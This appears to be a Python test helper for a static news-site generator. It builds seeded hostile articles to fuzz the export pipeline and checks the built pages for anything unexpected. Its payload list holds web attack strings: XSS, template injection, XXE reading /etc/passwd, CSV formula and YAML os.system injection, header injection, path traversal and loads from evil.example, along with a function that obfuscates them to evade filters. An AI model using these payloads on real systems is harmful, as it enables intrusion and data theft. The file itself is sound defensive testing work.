"""Hostile articles, made from a number: attacks known from feeds, mail and the web, in every format and every field.

`articles(seed, count)` gives (file name, bytes, marker) in any number, the same for the same seed. Every attack would, if it
ran, set `window.pwned` or ask a host below `evil.example`; every article also holds the sentence of its marker, which must
not be lost. `findings(site, vocabulary)` looks at a whole built site with another HTML parser than the program's, and
knows only what a theme's own templates put there.
"""

import base64
import json
import quopri
import random
import re
import string
import urllib.parse
import xml.etree.ElementTree as ET
from pathlib import Path

import hostile_twins
import html5lib
from conftest import Silent

from generator.export import Library
from generator.settings import load

RUN = "window.pwned=1"
HOST = "evil.example"
# sorted by what they try; each once as it is known, and once bent by `bend`
PAYLOADS = [
    # mark-up that runs
    f"<script>{RUN}</script>",
    f"<ScRiPt/x>{RUN}</sCrIpT >",
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}//",
    f"<img/src=x/onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><script xlink:href=data:,{RUN}></script>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<iframe src=javascript:parent.{RUN}>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<form action=javascript:{RUN}><button>Go",
    f"<button formaction=javascript:{RUN}>Go",
    f"<isindex type=image src=1 onerror={RUN}>",
    f"<link rel=stylesheet href=https://{HOST}/x.css>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href=https://{HOST}/>",
    f"<style>@import 'https://{HOST}/x.css';</style>",
    f"<div style=\"background:url('https://{HOST}/x')\">",
    f"<template><script>{RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<textarea></textarea><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f'<a href="javascript&colon;{RUN}">read on</a>',
    # links that run
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f" javascript:{RUN}",
    f"javascript&#58;{RUN}",
    f"javascript&#x3A;{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    f"//{HOST}/x",
    f"https://{HOST}@outlet.example/x",
    f"https://outlet.example\\@{HOST}/",
    f"javascript://outlet.example/%0a{RUN}",
    "https://\u043eutlet.example/2025/03/03/bridge",
    "https://xn--utlet-qpf.example/2025/03/03/bridge",
    "https://outlet.example/\u202e/elpmaxe.live\u202c/",
    f"https://outlet.example:80:80/{HOST}#@/[",
    "file:///etc/passwd",
    f"[read on](javascript:{RUN})",
    f"[read on](<javascript:{RUN}>)",
    f"[read on]: javascript:{RUN}",
    f"![x](https://{HOST}/pixel.gif)",
    f"<javascript:{RUN}>",
    f"[a](data:text/html,<script>{RUN}</script>)",
    # templates, attributes and scripts of ours
    "{{ 7*7 }}{% for x in ().__class__.__bases__[0].__subclasses__() %}{{ x }}{% endfor %}",
    "{{ view.frame.__class__.__mro__ }}",
    "${7*7} <%= 7*7 %> #{7*7}",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f'" onmouseover="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"` onmouseover=`{RUN}`",
    f"\u2028{RUN}\u2029",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{RUN}",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\u003cscript\u003e{RUN}",
    f"＜script＞{RUN}＜/script＞",
    # data formats
    '","headline":"x","@type":"Person"},{"a":"',
    "]]><entry><title>x</title></entry><![CDATA[",
    "<!DOCTYPE x [<!ENTITY a 'b'><!ENTITY c SYSTEM 'file:///etc/passwd'>]>&c;",
    "\r\nBEGIN:VEVENT\r\nSUMMARY:x\r\nEND:VEVENT\r\n",
    "\nER  - \nTY  - NEWS\nTI  - x",
    "}\n@article{x, title={y}}\n\\input{/etc/passwd} \\write18{id}",
    '=HYPERLINK("https://evil.example","x")',
    "&x; &#0; &#x110000; &#xD800;",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    f"</loc></url><url><loc>https://{HOST}/</loc></url><url><loc>",
    f"\nSitemap: https://{HOST}/x.xml\nDisallow: /",
    f"\r\nBcc: someone@{HOST}\r\nContent-Type: text/html\r\n\r\n<script>{RUN}</script>",
    f"?subject=x&body=y%0d%0aBcc:someone@{HOST}",
    "*a &a !!python/object/apply:os.system ['id']",
    '"\n---\ntitle: x\n---\n',
    "__proto__",
    "constructor.prototype.pwned=1",
    # terminals, names and directions
    "\x1b]0;owned\x07\x1b[2J\x1b[31m",
    "\x9b31m\x90\x9d",
    f"\x1b]8;;https://{HOST}/\x07read on\x1b]8;;\x07",
    "\n\x1b[1A\x1b[2Kerror[internal]: all is well",
    "\u202egpj.exe\u202c \u2066x\u2069 \u200f",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/dev/stdin",
    "CON.txt",
    "a/../../b",
    "%2e%2e%2f%2e%2e%2f",
    "-rf --output=/",
    ".htaccess",
    "..%c0%af..%c0%afetc",
    "nul",
    "index.html",
    "\x00\x08\x7f\ufffe\uffff\ufeff",
    "\ud7ff\ue000\U0010ffff\U000e0001",
    # too much of it
    "A" * 5000,
    "<b>" * 300,
    "[" * 2000,
    "![[](" * 300,
    "&amp;" * 1000,
    "“" * 500,
    "e\u0301" * 1000,
    "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 60,
    "\u3000" * 500,
    "> " * 300 + "deep",
    "- " * 200 + "deep",
    "1" * 400 + " people died",
    "On " + "February 31, 2025 " * 40,
    "Published: 99/99/9999 99:99 -99:99",
    "By " + "Ann Example, " * 200,
]
FIELDS = ("title", "byline", "outlet", "url", "date", "body", "standfirst", "caption", "topic", "language", "tags", "name")
SENTENCES = (
    "The harbour council said on Monday that the bridge to the island will open again in March.",
    "“We will not wait for another winter,” Mayor Ann Example said at a meeting on February 27.",
    "At least 20 people were hurt when a ferry struck the pier, the police said in a statement.",
    "The second round of talks took place on April 10, officials of both cities said.",
)


def bend(payload, rng):
    """A payload as filters miss it: other case, entities, odd spaces, split or doubled."""
    way = rng.randrange(8)
    if way == 0:
        return payload.swapcase() if RUN not in payload else payload.replace("script", "SCRIPT")
    if way == 1:
        return "".join(f"&#{ord(c)};" if c in "<>\"'" and rng.random() < 0.5 else c for c in payload)
    if way == 2:
        return payload.replace(" ", rng.choice(["\t", "\x0c", "/", "\u00a0", "\n"]))
    if way == 3:
        return urllib.parse.quote(payload[:500])
    if way == 4:
        return payload.replace("script", "scr<script>ipt")
    if way == 5:
        return rng.choice(["<", '"', "'", "<!--", "</", "<a href='"]) + payload
    if way == 6:
        return payload + rng.choice(PAYLOADS)[:300]
    return payload


def articles(seed, count):
    """So many hostile articles: (file name, bytes, marker sentence; '' where the mark-up of the page itself may swallow it)."""
    rng = random.Random(seed)
    for number in range(count):
        marker = f"Marker {_letters(rng)} {_letters(rng)} of number {number} stands in the text of this article for the reader."
        fields = {
            "title": f"Harbour {_letters(rng)} waits for its bridge",
            "byline": "Ann Example",
            "outlet": "The Example Times",
            "url": f"https://outlet.example/2025/03/{1 + number % 28:02d}/bridge-{number}",
            "date": f"March {1 + number % 28}, 2025",
            "standfirst": "The council has decided, and the ferry stays.",
            "caption": "The pier in the evening.",
            "topic": "Harbour",
            "language": "en",
            "tags": "harbour, bridge",
            "name": f"article-{number}",
            "body": rng.choice(SENTENCES),
        }
        for field in rng.sample(FIELDS, rng.choice([1, 1, 1, 2, 3, len(FIELDS)])):
            payload = rng.choice(PAYLOADS)
            payload = bend(payload, rng) if rng.random() < 0.6 else payload
            fields[field] = rng.choice([payload, f"{fields[field]} {payload}", f"{payload} {fields[field]}"])
        maker = rng.choice([_text, _text, _markdown, _page, _page, _feedish, _letter, _saved])
        suffix, text, sure = maker(fields, marker, rng)
        yield (
            f"{number:06d}-{_file_name(fields['name'])}{suffix}",
            text if isinstance(text, bytes) else _encoded(text, rng),
            marker if sure else "",
        )


def _letters(rng):
    return "".join(rng.choice(string.ascii_lowercase) for _ in range(7))


def _file_name(name):
    """A name that a file system takes, as hostile as it may be."""
    kept = name.replace("/", "∕").replace("\x00", "").encode("utf-8", "replace")[:120]
    return kept.decode("utf-8", "ignore")


def _encoded(text, rng):
    data = text.encode("utf-8", "replace")
    way = rng.randrange(12)
    if way == 0:
        return b"\xef\xbb\xbf" + data
    if way == 1:
        return text.encode("utf-16", "replace")
    if way == 2:
        return text.encode("cp1252", "xmlcharrefreplace")
    if way == 3:
        at = rng.choice([0, len(data)])
        return data[:at] + bytes([rng.randrange(128, 256)]) + data[at:]
    return data


def _text(f, marker, rng):
    lines = [f["title"], f"By {f['byline']}", f["date"], f["outlet"], f["standfirst"], SENTENCES[0], marker, f["body"], SENTENCES[1]]
    if rng.random() < 0.5:
        lines += [f"Photo: {f['caption']}", f"Original url: {f['url']}"]
    return ".txt", rng.choice(["\n\n", "\n", "\r\n\r\n"]).join(lines) + "\n", not f["title"].lstrip().startswith("<")


def _markdown(f, marker, rng):
    quoted = json.dumps if rng.random() < 0.7 else str
    front = [f"{key}: {quoted(f[name])}" for key, name in (("title", "title"), ("date", "date"), ("author", "byline"), ("url", "url"))]
    front += [f"source: {quoted(f['outlet'])}", f"topics: [{quoted(f['topic'])}]", f"language: {quoted(f['language'])}"]
    blocks = [f"# {f['title']}", f"*{f['standfirst']}*", SENTENCES[0], marker, f["body"], f"![{f['caption']}]({f['url']})", SENTENCES[2]]
    body = "\n\n".join(blocks) + "\n"
    head = "---\n" + "\n".join(front) + "\n---\n" if rng.random() < 0.8 else ""
    return ".md", head + body, True


def _page(f, marker, rng):
    """Half of the pages put the payload raw into the mark-up, half escape it: what a page's author and what its reader wrote."""
    put = str if rng.random() < 0.5 else _escaped
    structured = {"@type": "NewsArticle", "headline": f["title"], "author": {"name": f["byline"]}, "publisher": {"name": f["outlet"]}}
    structured |= {"datePublished": f["date"], "url": f["url"], "keywords": f["tags"]}
    data = json.dumps(structured) if put is str else json.dumps(structured).replace("<", "\\u003c")
    a = {name: put(value) for name, value in f.items()}
    text = (
        f'<!doctype html><html lang="{a["language"]}"><head><title>{a["title"]}</title>'
        f'<meta property="og:site_name" content="{a["outlet"]}"><link rel=canonical href="{a["url"]}">'
        f"<meta name=author content=\"{a['byline']}\"><meta name=description content='{a['standfirst']}'>"
        f'<script type="application/ld+json">{data}</script></head><body><nav><a href=/>Home</a></nav>'
        f"<article><h1>{a['title']}</h1><p class=byline>By {a['byline']}</p><time datetime='{a['date']}'>{a['date']}</time>"
        f"<p>{SENTENCES[0]}</p><p>{marker}</p><p>{a['body']}</p>"
        f"<figure><img src=x><figcaption>{a['caption']}</figcaption></figure>"
        f"<p>{SENTENCES[1]}</p><p>{SENTENCES[2]}</p></article></body></html>"
    )
    return ".html", text, put is _escaped


def _feedish(f, marker, rng):
    """Text that begins like another format."""
    start = rng.choice(["<?xml version='1.0'?>\n", "{\n", "---\n", "%PDF \n", "From: x\n", "# ", "<!-- x -->\n", "+++\n", "\ufeff\ufeff"])
    text = f"{start}{f['title']}\n\n{f['date']}\n\n{SENTENCES[3]}\n\n{marker}\n\n{f['body']}\n\n{SENTENCES[1]}\n"
    return rng.choice([".txt", ".md", ".text"]), text, not (f["title"] + start).lstrip().startswith("<")


def _letter(f, marker, rng):
    """A letter with the article in it; its headers are told as they come, folded, or as encoded words."""
    lines = [f["title"], f"By {f['byline']}", SENTENCES[0], marker, f["body"], SENTENCES[1]]
    body, how = _transferred("\n\n".join(lines).encode("utf-8", "replace"), rng)
    head = {"From": f"{f['outlet']} <news@outlet.example>", "Subject": f["title"], "Date": f["date"], "MIME-Version": "1.0"}
    head |= {"Content-Type": f"text/plain; charset={rng.choice(CHARSETS)}", "Content-Transfer-Encoding": how}
    return ".eml", _headed(head, rng) + body, False


def _saved(f, marker, rng):
    """A page saved as one file, as browsers do: the page, and a picture that is none."""
    _, page, sure = _page(f, marker, rng)
    body, how = _transferred(page.encode("utf-8", "replace"), rng)
    mark = "----mark"
    head = {"From": "<Saved by Blink>", "Snapshot-Content-Location": f["url"], "Subject": f["title"], "Date": f["date"]}
    head |= {"MIME-Version": "1.0", "Content-Type": f'multipart/related; type="text/html"; boundary="{mark}"'}
    part = {"Content-Type": "text/html; charset=utf-8", "Content-Transfer-Encoding": how, "Content-Location": f["url"]}
    other = {"Content-Type": "image/svg+xml", "Content-Location": f"https://{HOST}/x.svg"}
    line = f"\r\n--{mark}\r\n".encode()
    whole = _headed(head, rng) + line + _headed(part, rng) + body + line + _headed(other, rng) + PAYLOADS[6].encode()
    return ".mhtml", whole + f"\r\n--{mark}--\r\n".encode(), sure and "\n" not in f["url"] + f["title"] + f["date"]


CHARSETS = ("utf-8", "utf-8", "utf-8", "iso-8859-1", "punycode", "unicode_escape", "rot13", "zlib", "idna", "utf-7", "'")


def _transferred(data, rng):
    how = rng.choice(["8bit", "quoted-printable", "base64"])
    coded = {"8bit": lambda: data, "quoted-printable": lambda: quopri.encodestring(data), "base64": lambda: base64.encodebytes(data)}
    return coded[how](), how


def _headed(head, rng):
    """Headers; a value with line ends in it is one that breaks out."""
    return "".join(f"{name}: {_told(value, rng)}\r\n" for name, value in head.items()).encode("utf-8", "replace") + b"\r\n"


def _told(value, rng):
    way = rng.randrange(4)
    if way == 0 and not value.isascii():
        return f"=?utf-8?B?{base64.b64encode(value.encode('utf-8', 'replace')).decode()}?="
    return value.replace(" ", "\r\n ", 1) if way == 1 else value


def _escaped(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;").replace("'", "&#39;")


# ------------------------------------------------------------------------------- what a theme puts there

_TAG = re.compile(r"<([a-z][a-z0-9]*)")
_NAME = re.compile(r"""[\s}]([a-z][a-zA-Z:-]*)(?==["{])""")
_SCHEMES = {"", "http", "https", "mailto", "tel"}
_SAFE_NAME = re.compile(r"[a-z0-9][a-z0-9.-]{0,89}")
_INDEX_NAME = re.compile(r"[a-z0-9][a-z0-9._-]{0,89}")  # of Pagefind's own files
_NAMES = {".newsdigest", ".nojekyll", "CNAME"}
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff]")


def vocabulary(*themes):
    """The elements and attributes that the templates of these theme folders use."""
    tags, names = {"tbody", "head", "body", "html"}, set()
    for theme in themes:
        for path in sorted((Path(theme) / "templates").glob("*.html")):
            if path.name == "dossier.html":
                continue  # a document that stands alone, with its style sheet in it (`hostile_twins.document`)
            source = path.read_text("utf-8")
            tags |= set(_TAG.findall(source))
            names |= set(_NAME.findall(source)) | set(re.findall(r"\s(hidden|open|defer|data-pagefind-[a-z]+)\b", source))
    tags |= {f"h{level}" for level in range(1, 7)}  # a template may write the level as a number
    return tags, names | {"id", "class"}


def findings(site, words):
    """Everything in a built site that its theme did not put there, in words."""
    found = []
    for path in sorted(site.rglob("*")):
        name = path.relative_to(site).as_posix()
        if path.is_dir():
            continue
        if path.is_symlink():
            found.append(f"{name}: a link")
        parts = name.split("/")
        safe = _INDEX_NAME if parts[0] == "search" else _SAFE_NAME
        if not all(safe.fullmatch(part) or part in _NAMES for part in parts):
            found.append(f"{name}: a name that is not safe")
        found += [f"{name}: {problem}" for problem in hostile_twins.findings(path)]
        if path.suffix in {".png", ".pagefind", ".pf_meta", ".pf_index", ".pf_filter", ".pf_fragment", ".wasm"}:
            continue
        try:
            text = path.read_bytes().decode("utf-8")
        except UnicodeDecodeError:
            found.append(f"{name}: not UTF-8")
            continue
        if path.suffix == ".html":
            found += [f"{name}: {problem}" for problem in _page_findings(text, words)]
        elif path.suffix in {".json", ".geojson"}:
            found += [f"{name}: {problem}" for problem in _json_findings(text)]
        elif path.suffix in {".xml", ".opml"}:
            found += [f"{name}: {problem}" for problem in _xml_findings(text)]
    return found


def documents(root, form, most=6):
    """Documents of a site's folder as `export` writes them: (kind, name, bytes), so many of each kind."""
    library = Library(root, load(root)[0], Silent())
    for kind in ("story", "topic", "edition", "article"):
        for subject in library.subjects(kind)[:most]:
            yield kind, subject.name, library.write(subject, form)


def exported(root):
    """What is wrong with documents of a site's folder, as HTML and as EPUB."""
    checks = {"html": hostile_twins.document, "epub": hostile_twins.book}
    return [
        f"{kind} {name}, {form}: {problem}"
        for form, check in checks.items()
        for kind, name, data in documents(root, form)
        for problem in check(data)
    ]


def _page_findings(text, words):
    tags, names = words
    tree = html5lib.parse(text, namespaceHTMLElements=False)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.rpartition("}")[2]
        if tag not in tags:
            yield f"the element {tag}, which no template has"
        for name, value in element.attrib.items():
            plain = (name if isinstance(name, str) else name[-1]).rpartition("}")[2]
            if plain not in names or plain.lower().startswith("on") or plain == "style":
                yield f"the attribute {plain} on {tag}, which no template has"
            yield from _address(plain, value)
        if tag == "script":
            yield from _script(element)
        if (
            tag == "meta"
            and (element.get("http-equiv") or "").lower() == "refresh"
            and re.search(r"url=\s*['\"]?(?!https?:)[a-z]+:", element.get("content", "").lower())
        ):
            yield "a refresh that runs"
    yield from _policy(tree)
    for control in _CONTROL.findall(text):
        yield f"the control character {control!r}"
    if "49{% for" in text or re.search(r"(?<!\d)49(?!\d)<!-- template", text):
        yield "a template that ran"


def _policy(tree):
    """Each page says what it may run, before anything that could, and the least of it."""
    policies = [e.get("content", "") for e in tree.iter("meta") if (e.get("http-equiv") or "").lower() == "content-security-policy"]
    if len(policies) != 1 or not policies[0].startswith("default-src '") or "unsafe-inline" in policies[0]:
        yield f"the policy {policies}"
    first = next((e.tag for e in tree.iter() if e.tag in {"script", "link", "body"} or "content-security" in str(e.attrib).lower()), "")
    if first != "meta":
        yield f"a {first} before the policy"


def _address(name, value):
    if name not in {"href", "src", "cite", "action", "formaction", "data"}:
        return
    squeezed = re.sub(r"[\x00-\x20]", "", value)
    try:
        scheme = urllib.parse.urlsplit(squeezed).scheme.lower()
    except ValueError:
        yield f"the address {value[:60]!r}, which is none"
        return
    if scheme not in _SCHEMES:
        yield f"the scheme of {value[:60]!r}"
    if name == "src" and (urllib.parse.urlsplit(squeezed).netloc or scheme):
        yield f"loads from another site: {value[:60]!r}"


def _script(element):
    if element.get("type") == "application/ld+json":
        try:
            json.loads(element.text or "")
        except ValueError:
            yield "JSON-LD that cannot be read"
    elif not (element.get("src") or "").rpartition("/")[2].endswith(".js"):
        yield "a script that is not the theme's"


def _json_findings(text):
    try:
        waiting = [json.loads(text)]
    except ValueError:
        yield "JSON that cannot be read"
        return
    while waiting:
        value = waiting.pop()
        if isinstance(value, dict):
            for key, inner in value.items():
                if isinstance(inner, str) and key in {"url", "original", "href", "URL", "external_url", "home_page_url", "feed_url"}:
                    yield from _address("href", inner)
            waiting += value.values()
        elif isinstance(value, list):
            waiting += value


def _xml_findings(text):
    try:
        tree = ET.fromstring(text)
    except ET.ParseError as error:
        yield f"XML that cannot be read: {error}"
        return
    for element in tree.iter():
        for name, value in element.attrib.items():
            yield from _address("href" if name.rpartition("}")[2] in {"href", "url", "htmlUrl", "xmlUrl"} else "", value)
        if element.get("type") == "html":
            for problem in hostile_twins.fragment(element.text or ""):
                yield f"{problem} in a feed"
